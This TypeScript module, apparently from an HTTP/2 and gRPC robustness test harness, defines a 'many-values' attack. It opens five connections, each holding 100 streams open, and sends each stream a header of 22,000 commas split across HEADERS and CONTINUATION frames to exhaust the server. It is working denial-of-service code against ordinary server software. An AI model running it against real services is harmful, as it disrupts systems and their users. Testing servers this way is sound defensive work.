// SPDX-License-Identifier: Apache-2.0

import type { Attack } from "../attack.ts";
import { grpcFields, PATHS } from "../wire/grpc.ts";
import { FLAG, FRAME, frame, headerBlock } from "../wire/h2-frames.ts";
import { openH2Line, over } from "../wire/line.ts";
import { sideBySide } from "../wire/repeat.ts";

const CONNECTIONS = 5;
const STREAMS = 100;
/** Each comma separates two values. A little less than what the headers of one request may have, in bytes. */
const COMMAS = 22_000;
/** The largest payload of a frame, so that the headers take two. */
const FRAME_BYTES = 16_384;

const BLOCK = headerBlock({ ...grpcFields(PATHS.chat), "x-bin": ",".repeat(COMMAS) });

const headers = (streamId: number): Buffer =>
  Buffer.concat([
    frame(FRAME.headers, FLAG.none, streamId, BLOCK.subarray(0, FRAME_BYTES)),
    frame(FRAME.continuation, FLAG.endHeaders, streamId, BLOCK.subarray(FRAME_BYTES)),
  ]);

export const attack: Attack = {
  name: "many-values",
  about: `${CONNECTIONS} connections with ${STREAMS} calls each that stay open, with a header of ${COMMAS} commas`,
  bounds: [],
  ways: {
    grpc: async (target, tools) => {
      const all = Buffer.concat(Array.from({ length: STREAMS }, (_, index) => headers(1 + 2 * index)));
      await sideBySide(CONNECTIONS, async () => {
        const line = await openH2Line(target.port, tools);
        if (await line?.send(all)) tools.tally.add("requests", STREAMS);
      });
      await over(tools.signal);
    },
  },
};
